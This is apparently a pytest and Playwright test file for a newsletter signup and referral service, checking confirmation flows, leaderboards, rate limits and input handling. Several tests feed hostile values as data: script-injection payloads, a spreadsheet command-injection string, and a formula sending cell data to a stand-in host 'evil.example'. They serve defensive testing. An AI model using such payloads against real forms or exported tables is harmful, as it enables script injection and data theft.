"""Signing up and inviting friends as browsers, scanners and scripts meet it: from the form to the branch taken."""

import csv
import io
import re
import shutil
from concurrent.futures import ThreadPoolExecutor

import pytest
from elsewhere import elsewhere
from playwright.sync_api import expect
from stage import PEOPLE
from test_pages import faults_of
from test_referrals import INVITE, LADDER, WELCOME
from test_signup import FORMS
from test_web import TOKEN, Visited

from nurture.engine import inviting
from nurture.store.database import open_store

CONFIRM = "Please confirm: One mail a week"
PATIENCE = 30_000  # milliseconds
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
JSON = {"Accept": "application/json"}
SCREENS = (
    {"viewport": {"width": 1440, "height": 900}, "color_scheme": "light"},
    {"viewport": {"width": 390, "height": 844}, "color_scheme": "dark"},
)
STRICT = b"  strict: {title: People only, roles: refuse, disposable: allow, confirm: no, from: Ada <ada@example.com>}\n"
FORMS_HERE = (
    (PEOPLE + FORMS + STRICT).replace(b", start: ladder", b"").replace(b"a week, ask", b"a week, start: bring, ask")
)
CHALLENGE = LADDER.replace("start: manual", "challenge: {from: 2026-06-01, to: 2026-06-03}\nstart: manual")


class House(Visited):
    def __init__(self, store):
        files = {"people.yaml": FORMS_HERE, "templates/invite.md": INVITE}
        super().__init__(store, {"bring": CHALLENGE, "welcome": WELCOME}, templates=files)

    def stamp(self, path="/signup/news"):
        found = re.search(r'name="stamp" value="([^"]+)"', self.web.get(path).text)[1]
        self.after(seconds=3)
        return found

    def post(self, path="/signup/news", headers=FORM, **fields):
        return self.web.post(path, data={"stamp": self.stamp(path), **fields}, headers=headers)

    def own(self, subject, email="ann@example.com"):
        """Where the button of a mail leads, on this server."""
        found = re.search(r"https://go\.example\.com(/q/[^\"\s)>]+)", self.mail(subject, email).html)[1]
        return f"{self.web.base_url}{found}".replace("//q", "/q")

    def joins(self, email, path="/signup/news", *, answers=True):
        """Somebody signs up, confirms and answers their first question, in a browser of their own that needs no screen."""
        own = {**FORM, "User-Agent": f"Mozilla/5.0 {email}"}
        self.web.cookies.clear()
        assert self.post(path, own, email=email).status_code == 202
        self.work()
        assert self.web.post(self.own(CONFIRM, email), headers=own).status_code == 200
        self.work()
        if answers:
            self.web.post(self.own("Hello", email), headers=own)
            self.work()
        self.after(minutes=1)  # more than five in a minute come from no one place


@pytest.fixture
def house(store):
    house = House(store)
    yield house
    house.close()


@pytest.fixture
def home(migrated, tmp_path):
    """A house on one database, for what no database decides."""
    shutil.copy(migrated, tmp_path / "home.db")
    store = open_store(f"sqlite:///{tmp_path}/home.db")
    house = House(store)
    yield house
    house.close()
    store.close()


def fits(page):
    """Nothing stands over the edge, and nobody is kept out."""
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth"), page.url
    assert faults_of(page) == [], page.url


def arrives(page, heading):
    page.get_by_role("heading", name=heading).wait_for(timeout=PATIENCE)


def opened(browser, name, screen=0):
    page = browser.new_context(**SCREENS[screen], user_agent=f"Mozilla/5.0 {name}", bypass_csp=True).new_page()
    page.set_default_timeout(PATIENCE)
    return page


def joins(page, house, email, *, at="/signup/news"):
    """Somebody signs up with keys alone, and confirms with the button."""
    page.goto(f"{house.web.base_url}{at}")
    page.keyboard.press("Tab")
    page.keyboard.type(email)
    house.after(seconds=3)
    page.keyboard.press("Enter")
    confirms(page, house, email)


def confirms(page, house, email):
    arrives(page, "Now look in your inbox")
    house.work()
    page.goto(house.own(CONFIRM, email))
    page.get_by_role("button").click()
    arrives(page, "You are in")
    house.work()


def test_from_a_form_to_the_friends_who_count_and_those_who_do_not(browser, house):
    ann = opened(browser, "ann", screen=1)
    joins(ann, house, "ann@example.com")
    assert sorted(house.subjects()) == ["Hello", "Invite", CONFIRM]
    ann.goto(house.own("Invite"))
    ann.get_by_label("Your name on the leaderboard").fill("Ann <b>Bright</b>")
    ann.get_by_role("button").click()
    ann.get_by_text("Kept.").wait_for()
    link = "/r/" + ann.get_by_label("Your own link").input_value().rpartition("/")[2]

    bob = opened(browser, "bob")
    joins(bob, house, "bob@example.com", at=link)
    bob.goto(house.own("Hello", "bob@example.com"))
    bob.get_by_role("radio").first.check()
    bob.get_by_role("button").click()
    arrives(bob, "Thank you")
    joins(ann, house, "eve@example.net", at=link)
    house.after(minutes=1)
    house.joins("bob+2@example.com", link)
    house.joins("dan@example.com", link, answers=False)
    ann.goto(house.own("Invite"))
    expect(ann.locator("li")).to_have_text(
        [
            "B. counts",
            "E. does not count: the same browser as the person whose link it is",
            "B. does not count: the same mailbox as another friend",
            "D. has confirmed, has not answered anything yet",
        ]
    )
    assert "Friends who are in: 1 of 2" in ann.inner_text("main")
    assert house.subjects().count("More") == 0

    house.after(days=2)  # the challenge is over; the ask is not
    house.joins("cem@example.com", link)
    assert "More" in house.subjects()
    ann.reload()
    fits(ann)
    assert "All 2 friends are in" in ann.content()
    board = {"place": 1, "who": "Ann <b>Bright</b>", "friends": 1}
    told = house.web.get("/leaderboard/bring.json").json()
    assert (told["lines"], told["until"]) == ([board], "Wednesday 3 June, 00:00")
    ann.goto(f"{house.web.base_url}/leaderboard/bring")
    fits(ann)
    expect(ann.locator("tbody td")).to_have_text(["1", "Ann <b>Bright</b>", "1"])
    assert "Wednesday 3 June, 00:00" in ann.inner_text("main")
    ann.goto(f"{house.web.base_url}{link}")
    assert "Ann <b>Bright</b> thought of you." in ann.inner_text("main")


def test_the_form_on_another_site_keeps_where_it_stood_and_what_was_agreed_to(browser, home, nurture, tmp_path):
    (tmp_path / "nurture.toml").write_text(f'base_url = "{str(home.web.base_url).rstrip("/")}"\n')
    (tmp_path / "people.yaml").write_bytes(FORMS_HERE)
    (tmp_path / "sequences").mkdir()
    code, html, err = nurture("signup", "news", "--html")
    assert code == 0, err
    told = '<meta name="referrer" content="no-referrer-when-downgrade">'
    with elsewhere({"/post.html": f"{told}{html}".encode(), "/shy.html": html.encode()}) as blog:
        for number, (where, page_told) in enumerate((("post", "/post.html?utm_source=x"), ("shy", "/"))):
            email = f"{where}@example.com"
            page = opened(browser, where)
            page.goto(f"{blog}/{where}.html?utm_source=x")
            page.get_by_label("Email").fill(email)
            page.get_by_label("First name").fill("Zoë")
            page.get_by_role("button").click()
            arrives(page, "One mail a week")  # another site's form needs one more press, as no stamp of ours was in it
            home.after(seconds=3)
            page.get_by_role("button").click()
            confirms(page, home, email)
            story = home.web.get(f"/api/subscribers/{email}", headers=TOKEN).json()
            assert story["attributes"]["first_name"] == "Zoë"
            (signed,) = story["signups"]
            assert (signed["form"], signed["consent"]) == ("news", "Yes, one mail a week.")
            assert signed["source"] == {"page": f"{blog}{page_told}", **({} if number else {"utm_source": "x"})}


@pytest.mark.parametrize(("button", "confirmed"), [("Yes", "ann@gmx.de"), ("No", "ann@gmxx.de")])
def test_either_button_of_did_you_mean_is_taken_at_its_word(browser, home, button, confirmed):
    page = opened(browser, button)
    page.goto(f"{home.web.base_url}/signup/news")
    page.get_by_label("Your email address").fill("ann@gmxx.de")
    home.after(seconds=3)
    page.keyboard.press("Enter")
    page.get_by_role("alert").get_by_text("Did you mean ann@gmx.de?").wait_for()
    home.after(seconds=3)
    page.get_by_role("button", name=button).click()
    arrives(page, "Now look in your inbox")
    home.work()
    assert [mail.to for mail in home.delivered] == [confirmed]


def test_a_scanner_that_opens_every_link_does_nothing(house):
    assert house.post(email="ann@example.com").status_code == 202
    house.work()
    for _ in range(3):
        assert house.web.get(house.own(CONFIRM)).status_code == 200
        assert house.web.head(house.own(CONFIRM)).status_code == 200
    house.after(days=1)
    assert (house.subjects(), house.story()["status"]) == ([CONFIRM], "unconfirmed")


def test_the_answer_is_the_same_for_known_and_unknown_and_barred_addresses(house):
    house.subscribe("known@example.com")
    house.subscribe("left@example.com")
    house.work()
    house.unsubscribe(house.mail("Hello", "left@example.com"))
    told = set()
    for name in ("known", "new", "left"):
        answer = house.post(email=f"{name}@example.com", headers={**FORM, **JSON})
        told.add((answer.status_code, answer.text.replace(name, "")))
    assert told == {(202, '{"format":"nurture.signup/1","state":"confirm","email":"@example.com"}')}


def test_a_form_of_another_site_needs_one_more_press_and_a_program_a_stamp(house):
    elsewhere = {**FORM, "Origin": "https://blog.example", "Referer": "https://blog.example/a?utm_source=x"}
    answer = house.web.post("/signup/news", data={"email": "ann@example.com", "first_name": "Ann"}, headers=elsewhere)
    assert (answer.status_code, "press the button" in answer.text) == (200, True)
    assert 'value="ann@example.com"' in answer.text and 'value="Ann"' in answer.text
    told = house.web.post("/signup/news", data={"email": "ann@example.com"}, headers={**FORM, **JSON})
    assert (told.status_code, told.json()["state"]) == (428, "once_more")
    house.after(seconds=3)
    fields = {"email": "ann@example.com", "stamp": told.json()["stamp"]}
    assert house.web.post("/signup/news", data=fields, headers={**FORM, **JSON}).status_code == 202
    house.work()
    assert house.subjects() == [CONFIRM]


def test_what_a_form_cannot_be(house):
    for fields, said in (
        ({"email": "ann@gmial.com"}, "Did you mean ann@gmail.com?"),
        ({"email": "ann@mailinator.com"}, "throw-away"),
        ({"email": "<script>alert(1)</script>"}, "not an email address"),
        ({"email": "ann@example.com", "loan": "=cmd|' /C calc'!A0"}, "look at this answer"),
    ):
        answer = house.post(**fields)
        assert (answer.status_code, said in answer.text) == (422, True), answer.text
        assert "<script>alert" not in answer.text
        house.after(minutes=1)
    assert house.web.post("/signup/none", data={"email": "ann@example.com"}).status_code == 404
    assert house.web.post("/signup/news", content=b"email=" + b"a" * 1_000_000, headers=FORM).status_code == 413
    assert (
        house.web.post("/signup/news", content="&".join(f"a{n}=1" for n in range(500)), headers=FORM).status_code == 422
    )
    assert house.post(email="ann@example.com", website="x").status_code == 202  # the trap
    house.work()
    assert house.delivered == []


def test_hostile_values_are_kept_as_they_are_and_shown_as_text(house):
    name = "<script>alert(1)</script> =1+1 🎈 \u202eevil"
    assert house.post(email="ann@example.com", first_name=name).status_code == 202
    house.work()
    assert house.web.post(house.own(CONFIRM)).status_code == 200
    house.work()
    assert house.story()["attributes"]["first_name"] == name
    assert all("<script>" not in mail.html for mail in house.delivered)


def test_a_formula_that_was_typed_is_words_in_the_exported_table(home, nurture, tmp_path):
    typed = '=HYPERLINK("https://evil.example?"&A1)'
    assert home.post(email="ann@example.com", first_name=typed).status_code == 202
    home.work()
    assert home.web.post(home.own(CONFIRM)).status_code == 200
    (tmp_path / "people.yaml").write_bytes(FORMS_HERE)
    (tmp_path / "sequences").mkdir()
    (tmp_path / "nurture.toml").write_text(f'database_url = "sqlite:///{tmp_path}/home.db"\n')
    (line,) = csv.DictReader(io.StringIO(nurture("export", "--csv")[1]))
    assert (line["email"], line["first_name"]) == ("ann@example.com", f"'{typed}")


@pytest.mark.parametrize("way", ["/signup/news", "/r"])
def test_a_hundred_at_once_send_few_mails_and_a_replayed_stamp_grants_nothing_twice(house, way):
    if way == "/r":
        house.joins("zoe@example.org")
        way = re.search(r"https://go\.example\.com(/r/[^\s>]+)", house.mail("Invite", "zoe@example.org").text)[1]
    before, stamp = len(house.delivered), house.stamp(way)
    fields = [{"email": f"ann{number % 3}@example.com", "stamp": stamp} for number in range(100)]
    with ThreadPoolExecutor(20) as many:
        told = list(many.map(lambda one: house.web.post(way, data=one, headers=FORM).status_code, fields))
    assert sorted(set(told)) == [202, 429] and told.count(202) == 5
    house.work()
    to = [mail.to for mail in house.delivered[before:]]
    assert set(to) <= {f"ann{number}@example.com" for number in range(3)} and len(to) == len(set(to)) > 0
    assert house.web.post(way, data=fields[0], headers=FORM).status_code == 429
    house.after(minutes=2)
    # another form's stamp
    assert "press the button" in house.web.post("/signup/open", data=fields[0], headers=FORM).text


def test_what_a_form_says_of_teams_and_throw_away_addresses_holds(house):
    refused = house.post("/signup/strict", email="info@example.com")
    assert (refused.status_code, "belongs to a team" in refused.text) == (422, True), refused.text
    assert house.post("/signup/strict", email="ann@mailinator.com").status_code == 200
    assert house.post(email="info@example.com").status_code == 202
    house.work()
    assert house.story("ann@mailinator.com")["status"] == "active"
    assert house.web.get("/api/subscribers/info@example.com", headers=TOKEN).json()["signups"][0]["role"] is True


def test_a_name_for_the_board_is_one_line_of_what_can_be_seen(house):
    house.post(email="ann@example.com")
    house.work()
    house.web.post(house.own(CONFIRM))
    house.work()
    own = house.own("Invite")
    assert (
        house.web.post(own, data={"name": "<img src=x onerror=alert(1)>\r\n\u202e🎈" + "x" * 9_000}).status_code == 303
    )
    shown = house.web.get(own).text
    assert "&lt;img src=x onerror=alert(1)&gt; 🎈" in shown and "<img" not in shown
    assert house.web.get("/leaderboard/bring").status_code == 200
    assert house.web.get("/leaderboard/bring.json").json()["lines"] == []
    assert house.web.get("/leaderboard/welcome").status_code == 404
    assert house.web.get("/r/nothing").status_code == 404
    assert inviting.LONGEST_NAME == 40
